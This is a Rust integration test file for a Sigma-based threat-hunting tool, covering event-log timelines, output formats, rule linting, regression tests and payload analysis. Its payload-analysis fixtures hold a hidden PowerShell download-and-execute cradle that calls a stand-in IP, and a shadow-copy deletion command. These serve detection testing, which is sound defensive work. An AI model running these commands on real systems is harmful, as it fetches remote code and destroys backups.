//! `warden hunt` and `warden rules`: detection timelines over EVTX and JSON, formats,
//! correlations, broken inputs and rules, regression folders, the live stream on stdin.

use crate::{data, lines, run, warden};
use serde_json::Value;

fn hunt_jsonl(inputs: &[&str]) -> (i32, Vec<Value>, String) {
    let rules = data("sigma");
    let mut args = vec!["hunt", "-q", "--rules", rules.as_str(), "--format", "jsonl"];
    args.extend(inputs);
    let (code, out, err) = run(&args);
    (code, lines(&out), err)
}

fn basename(v: &mut Value) {
    if let Some(f) = v.get("file").and_then(Value::as_str) {
        let name = std::path::Path::new(f)
            .file_name()
            .map(|n| n.to_string_lossy().into_owned());
        v["file"] = name.map_or(Value::Null, Value::String);
    }
}

#[test]
fn evtx_timeline_matches_the_snapshot() {
    let evtx = data("evtx/system_restore_disabled.evtx");
    let (code, mut got, err) = hunt_jsonl(&[&evtx]);
    assert_eq!(code, 0, "{err}");
    got.iter_mut().for_each(basename);
    let snapshot = std::path::Path::new(&data("evtx/expected_hunt.jsonl")).to_path_buf();
    let text: String = got.iter().map(|v| format!("{v}\n")).collect();
    if std::env::var_os("WARDEN_UPDATE_SNAPSHOTS").is_some() {
        std::fs::write(&snapshot, &text).unwrap();
    }
    let expected = std::fs::read_to_string(&snapshot).unwrap();
    assert_eq!(text, expected, "hunt output changed; stderr: {err}");
    // What the snapshot must hold, independently of its text.
    let titles: Vec<&str> = got
        .iter()
        .filter_map(|v| v["rule_title"].as_str())
        .collect();
    assert_eq!(
        titles
            .iter()
            .filter(|t| **t == "System Restore Disabled Through The Registry")
            .count(),
        4
    );
    assert_eq!(
        titles
            .iter()
            .filter(|t| **t == "Reg.exe Writes A Policy Value")
            .count(),
        2
    );
    assert_eq!(
        titles
            .iter()
            .filter(|t| **t == "Burst Of Registry Changes By Reg.exe")
            .count(),
        1
    );
    // The correlation's base rule is not reported on its own; the Linux rule never fires.
    assert!(!titles.contains(&"Registry Values Set By Reg.exe"));
    assert!(!titles.contains(&"Linux Rule That Never Fires On Windows"));
    let first = &got[0];
    for k in [
        "timestamp",
        "rule_id",
        "rule_title",
        "level",
        "tags",
        "computer",
        "channel",
        "event_id",
        "record_id",
        "file",
        "details",
    ] {
        assert!(first.get(k).is_some(), "missing {k} in {first}");
    }
    assert_eq!(first["event_id"], 13);
    assert_eq!(first["channel"], "Microsoft-Windows-Sysmon/Operational");
    let times: Vec<&str> = got.iter().filter_map(|v| v["timestamp"].as_str()).collect();
    assert!(
        times.windows(2).all(|w| w[0] <= w[1]),
        "timeline not sorted: {times:?}"
    );
    assert!(err.contains("events 4"), "{err}");
    assert!(err.contains("detections: 7"), "{err}");
}

#[test]
fn json_rendering_gives_the_same_detections() {
    let (_, evtx, _) = hunt_jsonl(&[&data("evtx/system_restore_disabled.evtx")]);
    let (code, json, err) = hunt_jsonl(&[&data("evtx/system_restore_disabled.json")]);
    assert_eq!(code, 0, "{err}");
    let key = |v: &Value| {
        (
            v["rule_id"].to_string(),
            v["record_id"].to_string(),
            v["timestamp"].to_string(),
        )
    };
    let mut a: Vec<_> = evtx.iter().map(key).collect();
    let mut b: Vec<_> = json.iter().map(key).collect();
    a.sort();
    b.sort();
    assert_eq!(a, b);
}

#[test]
fn csv_and_table_formats() {
    let rules = data("sigma");
    let evtx = data("evtx/system_restore_disabled.evtx");
    let (code, out, err) = run(&["hunt", "-q", "-r", &rules, "--format", "csv", &evtx]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(out.lines().count(), 7);
    assert!(
        out.lines().all(|l| l.starts_with("2026-03-11T05:55:5")),
        "{out}"
    );
    let (code, out, _) = run(&["hunt", "-q", "-r", &rules, "--format", "table", &evtx]);
    assert_eq!(code, 0);
    assert!(out.contains("System Restore Disabled Through The Registry"));
    let (code, out, _) = run(&[
        "hunt",
        "-q",
        "-r",
        &rules,
        "--min-level",
        "high",
        "--format",
        "jsonl",
        &evtx,
    ]);
    assert_eq!(code, 0);
    assert!(lines(&out).iter().all(|v| v["level"] == "high"));
    assert_eq!(lines(&out).len(), 5);
}

#[test]
fn truncated_and_foreign_files_do_not_stop_the_hunt() {
    let dir = tempfile::tempdir().unwrap();
    let good = std::fs::read(data("evtx/system_restore_disabled.evtx")).unwrap();
    std::fs::write(dir.path().join("good.evtx"), &good).unwrap();
    std::fs::write(dir.path().join("cut.evtx"), &good[..5000]).unwrap();
    std::fs::write(dir.path().join("garbage.evtx"), b"ElfFile\0 not really").unwrap();
    std::fs::write(dir.path().join("bad.json"), "{\"a\": \n{not json}\n").unwrap();
    std::fs::write(dir.path().join("notes.txt"), "ignored").unwrap();
    let (code, got, err) = hunt_jsonl(&[dir.path().to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    // Four + two rule matches (the correlation has no file).
    assert_eq!(
        got.iter()
            .filter(|v| v["file"].as_str().is_some_and(|f| f.ends_with("good.evtx")))
            .count(),
        6
    );
    assert!(err.contains("garbage.evtx"), "{err}");
    assert!(err.contains("bad.json"), "{err}");
    assert!(err.contains("other files skipped 1"), "{err}");
}

#[test]
fn parse_only_reads_without_rules() {
    let (code, out, err) = run(&[
        "hunt",
        "-q",
        "--parse-only",
        &data("evtx/system_restore_disabled.evtx"),
    ]);
    assert_eq!(code, 0, "{err}");
    assert!(out.trim().is_empty());
    assert!(
        err.contains("events 4") && err.contains("parse only"),
        "{err}"
    );
}

#[test]
fn missing_rules_or_inputs_are_clear_errors() {
    let evtx = data("evtx/system_restore_disabled.evtx");
    let (code, _, err) = run(&["hunt", &evtx]);
    assert_eq!(code, 1);
    assert!(err.contains("--rules"), "{err}");
    let (code, _, err) = run(&["hunt", "-r", &data("sigma"), "/no/such/file.evtx"]);
    assert_eq!(code, 1);
    assert!(err.contains("/no/such/file.evtx"), "{err}");
    let (code, _, err) = run(&["hunt", "-r", &data("sigma"), "--min-level", "severe", &evtx]);
    assert_eq!(code, 2);
    assert!(err.contains("severe"), "{err}");
}

#[test]
fn live_stream_on_stdin_with_correlation() {
    let rules = data("sigma");
    let text = std::fs::read_to_string(data("evtx/system_restore_disabled.json")).unwrap();
    // Pretty JSON → one document per line.
    let mut docs = Vec::new();
    for v in serde_json::Deserializer::from_str(&text).into_iter::<Value>() {
        docs.push(v.unwrap().to_string());
    }
    let input = docs.join("\n") + "\nnot json\n";
    let out = warden()
        .args(["hunt", "-r", &rules, "--format", "jsonl", "-"])
        .write_stdin(input)
        .output()
        .unwrap();
    assert!(out.status.success());
    let got = lines(&String::from_utf8_lossy(&out.stdout));
    assert_eq!(got.len(), 7);
    assert!(
        got.iter()
            .any(|v| v["rule_title"] == "Burst Of Registry Changes By Reg.exe")
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("<stdin>:5"), "{err}");
}

#[test]
fn lint_lists_every_skipped_rule_with_its_reason() {
    let (code, out, err) = run(&["rules", "lint", "--json", &data("sigma-bad")]);
    assert_eq!(code, 0, "{err}");
    let v: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["loaded"], 1);
    let skipped = v["skipped"].as_array().unwrap();
    assert_eq!(skipped.len(), 5);
    let reason = |file: &str| {
        skipped
            .iter()
            .find(|s| s["file"].as_str().is_some_and(|f| f.ends_with(file)))
            .map(|s| s["reason"].as_str().unwrap_or_default().to_owned())
    };
    assert_eq!(reason("bad_yaml.yml").as_deref(), Some("invalid-yaml"));
    assert_eq!(reason("bad_regex.yml").as_deref(), Some("regex"));
    assert_eq!(
        reason("unknown_modifier.yml").as_deref(),
        Some("unknown-modifier")
    );
    assert_eq!(reason("unknown_search.yml").as_deref(), Some("condition"));
    assert_eq!(reason("deep_nesting.yml").as_deref(), Some("limit"));
    let line = skipped
        .iter()
        .find(|s| {
            s["file"]
                .as_str()
                .is_some_and(|f| f.ends_with("unknown_modifier.yml"))
        })
        .unwrap();
    assert_eq!(line["line"], 7);
    let (code, out, _) = run(&["rules", "lint", &data("sigma-bad")]);
    assert_eq!(code, 0);
    assert!(
        out.contains("1 rules loaded") && out.contains("5 skipped"),
        "{out}"
    );
    let (code, _, err) = run(&["rules", "lint", "--strict", &data("sigma-bad")]);
    assert_eq!(code, 1);
    assert!(err.contains("5 rules skipped"), "{err}");
    // Hunting with broken rules beside good ones still works.
    let (code, out, err) = run(&[
        "hunt",
        "-q",
        "-r",
        &data("sigma-bad"),
        "--format",
        "jsonl",
        &data("evtx/system_restore_disabled.evtx"),
    ]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(lines(&out).len(), 2);
    assert!(err.contains("skipped 5"), "{err}");
}

#[test]
fn regression_folders_pass_and_fail() {
    let dir = tempfile::tempdir().unwrap();
    let case = dir.path().join("regression_data/registry_restore_disabled");
    std::fs::create_dir_all(&case).unwrap();
    std::fs::copy(
        data("evtx/system_restore_disabled.evtx"),
        case.join("fixture.evtx"),
    )
    .unwrap();
    std::fs::copy(
        data("evtx/system_restore_disabled.json"),
        case.join("fixture.json"),
    )
    .unwrap();
    let info = |count: u32| {
        format!(
            "id: x\nrule_metadata:\n    - id: 7f1c2d3e-0001-4a5b-8c9d-000000000001\n      title: System Restore Disabled\nregression_tests_info:\n    - name: Positive Detection Test\n      type: evtx\n      match_count: {count}\n      path: regression_data/registry_restore_disabled/fixture.evtx\n"
        )
    };
    std::fs::write(case.join("info.yml"), info(4)).unwrap();
    let root = dir.path().join("regression_data");
    let (code, out, err) = run(&[
        "rules",
        "test",
        "--json",
        "-r",
        &data("sigma"),
        root.to_str().unwrap(),
    ]);
    assert_eq!(code, 0, "{out}{err}");
    let v: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(
        (v["tests"].as_u64(), v["passed"].as_u64()),
        (Some(1), Some(1))
    );
    assert_eq!(v["results"][0]["evtx_matches"], 4);
    assert_eq!(v["results"][0]["json_matches"], 4);
    std::fs::write(case.join("info.yml"), info(5)).unwrap();
    let (code, out, _) = run(&[
        "rules",
        "test",
        "-r",
        &data("sigma"),
        root.to_str().unwrap(),
    ]);
    assert_eq!(code, 1);
    assert!(out.contains("FAIL") && out.contains("0/1"), "{out}");
}

/// A Sysmon process creation as an export writes it, one JSON object a line.
fn process_creation(host: &str, record: u64, cmd: &str) -> String {
    serde_json::json!({"Event": {
        "System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
                   "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
                   "Computer": host, "EventRecordID": record,
                   "TimeCreated": {"#attributes": {"SystemTime": format!("2026-12-03T10:00:{:02}.000Z", record % 60)}}},
        "EventData": {"CommandLine": cmd, "Image": "C:\\Windows\\System32\\cmd.exe", "User": "CORP\\bob"}}})
    .to_string()
}

#[test]
fn payload_analysis_puts_dangerous_command_lines_on_the_timeline() {
    let dir = tempfile::tempdir().unwrap();
    let cradle = "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\"";
    let mut events = vec![
        process_creation("ws-1.corp", 1, cradle),
        process_creation("ws-1.corp", 2, "ipconfig /all"),
        serde_json::json!({"Event": {"System": {"EventID": 4624, "Computer": "dc1", "EventRecordID": 3}}})
            .to_string(),
    ];
    for h in 0..3 {
        events.push(process_creation(
            &format!("ws-{h}.corp"),
            10 + h,
            "vssadmin.exe delete shadows /all /quiet",
        ));
    }
    let file = dir.path().join("sysmon.json");
    std::fs::write(&file, events.join("\n") + "\n").unwrap();
    let file = file.to_string_lossy().into_owned();

    let (code, plain, _) = hunt_jsonl(&[&file]);
    assert_eq!(code, 0);
    assert!(
        plain.iter().all(|d| d["rule_id"] != "warden-payload"),
        "{plain:?}"
    );

    let (code, found, err) = hunt_jsonl(&["--payload", &file]);
    assert_eq!(code, 0, "{err}");
    let payload: Vec<&Value> = found
        .iter()
        .filter(|d| d["rule_id"] == "warden-payload")
        .collect();
    assert_eq!(payload.len(), 4, "{found:?}");
    let first = payload[0];
    assert_eq!(first["computer"], "ws-1.corp");
    assert_eq!(first["record_id"], 1);
    assert_eq!(first["level"], "critical", "{first}");
    assert!(
        first["tags"]
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t == "attack.t1105"),
        "{first}"
    );
    assert!(
        first["details"]["CommandLine"]
            .as_str()
            .unwrap()
            .contains("DownloadString")
    );
    // Every host that deleted its shadow copies is on the timeline: common or not, what a
    // command does is reported.
    assert_eq!(
        payload
            .iter()
            .filter(|d| d["rule_title"].as_str().unwrap().contains("shadow"))
            .count(),
        3,
        "{payload:?}"
    );
    assert!(
        err.contains("payload analysis: 5 process creations, 4 detections"),
        "{err}"
    );
    // Payload detections are sorted into the timeline with the rules' detections.
    let times: Vec<&str> = found
        .iter()
        .map(|d| d["timestamp"].as_str().unwrap())
        .collect();
    let mut sorted = times.clone();
    sorted.sort_unstable();
    assert_eq!(times, sorted);

    // Without Sigma rules: command lines only.
    let (code, out, err) = run(&["hunt", "-q", "--format", "jsonl", "--payload", &file]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(lines(&out).len(), 4, "{out}");
    assert!(err.contains("rules: none (command lines only)"), "{err}");
    assert!(err.contains("detections: 4"), "{err}");

    // A threshold of one host would make every line common.
    let (code, _, err) = run(&["hunt", "--payload", "--common-at-hosts", "1", &file]);
    assert_eq!(code, 2);
    assert!(err.contains("from 2 to"), "{err}");

    // Not on a live stream: prevalence needs the whole hunt.
    let rules = data("sigma");
    let (code, _, err) = run(&["hunt", "-q", "--rules", &rules, "--payload", "-"]);
    assert_ne!(code, 0);
    assert!(err.contains("--payload reads files"), "{err}");
}

#[test]
fn a_hunt_runs_its_rules_on_the_command_line_an_event_only_shows_encoded() {
    let dir = tempfile::tempdir().unwrap();
    // A rule for a made-up cmdlet no signature of Warden's own knows: only this test's
    // events can match it.
    let rules = data("sigma-canary");
    let script = "Get-WardenCanary -Now";
    let encoded = format!(
        "powershell.exe -enc {}",
        warden_payload::deobf::codec::encoded_command(script)
    );
    let file = dir.path().join("sysmon.json");
    let events = [
        process_creation("ws-9.corp", 1, &encoded),
        process_creation("ws-9.corp", 2, &format!("powershell.exe -c {script}")),
    ];
    std::fs::write(&file, events.join("\n") + "\n").unwrap();
    let file = file.to_string_lossy();
    let hunt = |extra: &[&str]| {
        let mut args = vec!["hunt", "-q", "--format", "jsonl", "--rules", &rules];
        args.extend(extra);
        args.push(&file);
        let (code, out, err) = run(&args);
        assert_eq!(code, 0, "{err}");
        lines(&out)
    };
    let from_rule = |found: &[Value], record: u64| -> Vec<String> {
        found
            .iter()
            .filter(|d| d["record_id"] == record)
            .map(|d| d["rule_id"].as_str().unwrap_or("").to_owned())
            .collect()
    };
    // The rules alone see the clear command, not the encoded one.
    let found = hunt(&[]);
    assert_eq!(from_rule(&found, 1), Vec::<String>::new(), "{found:?}");
    assert_eq!(
        from_rule(&found, 2),
        ["6a1e0000-0000-4000-8000-00000000ca7e"]
    );
    // With payload analysis the encoded one is decoded and the rule named on it, once.
    let found = hunt(&["--payload"]);
    let decoded: Vec<&Value> = found
        .iter()
        .filter(|d| d["record_id"] == 1 && d["rule_id"] == "warden-payload")
        .collect();
    assert_eq!(decoded.len(), 1, "{found:?}");
    let d = decoded[0];
    assert_eq!(
        d["rule_title"], "Payload analysis: Sigma: Warden canary cmdlet",
        "{d}"
    );
    assert!(
        d["details"]["patterns"]
            .as_str()
            .unwrap()
            .contains("sigma:6a1e0000-0000-4000-8000-00000000ca7e"),
        "{d}"
    );
    assert!(
        d["tags"]
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t == "attack.t1059.001")
    );
    // The clear command's match stays the rule's own detection: not counted again in a
    // payload verdict.
    assert!(
        found
            .iter()
            .filter(|d| d["record_id"] == 2 && d["rule_id"] == "warden-payload")
            .all(|d| !d["details"]["patterns"]
                .as_str()
                .unwrap_or("")
                .contains("sigma:")),
        "{found:?}"
    );
}
